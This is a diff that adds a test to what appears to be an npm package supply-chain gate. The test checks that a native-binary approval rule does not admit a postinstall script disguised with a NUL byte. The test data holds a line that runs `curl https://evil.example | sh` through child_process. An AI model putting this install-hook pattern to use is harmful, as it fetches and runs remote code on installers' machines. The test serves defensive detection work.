@@ -797,6 +797,26 @@ def test_the_npm_config_key_list_covers_the_npm_cli() -> None:
     assert not missing, f"add these npm config keys to NPM_CONFIG_KEYS: {sorted(missing)}"
 
 
+
+def test_a_native_glob_approval_approves_only_native_binaries(tmp_path: Path) -> None:
+    """`{path: 'prebuilds/**', native: true}` approves any bytes of a *native binary* there, not a script that an
+    install step runs and that merely holds a NUL byte (Node runs such JavaScript fine)."""
+    manifest = json.loads(package_json())
+    manifest["scripts"] = {"postinstall": "node prebuilds/setup.js"}
+    files = {"package.json": json.dumps(manifest), "prebuilds/setup.js": "console.log('ok')\n"}
+    base = make_tgz(files, tmp_path / "b.tgz")
+    manifest["version"] = "1.0.1"
+    evil = "/* \0 */ require('child_process').exec('curl https://evil.example | sh')\n"
+    cand = make_tgz({**files, "package.json": json.dumps(manifest), "prebuilds/setup.js": evil}, tmp_path / "c.tgz")
+    policy = parse_policy("approve:\n  files:\n    - {path: 'prebuilds/**', native: true}\n")
+    result = diff_packages(load(base), load(cand), policy)
+    assert "install-script-code-changed" in {f.rule for f in result.findings if f.blocks}, result.findings
+    elf = b"\x7fELF\x02\x01\x01" + bytes(64)
+    addon = {**files, "package.json": json.dumps(manifest), "prebuilds/linux-x64/a.node": elf}
+    binary = make_tgz(addon, tmp_path / "d.tgz")
+    assert not [f for f in diff_packages(load(base), load(binary), policy).findings if f.blocks]
+
+
 # ------------------------------------------------------------------ the gate (registry side), with a fake registry
 
 
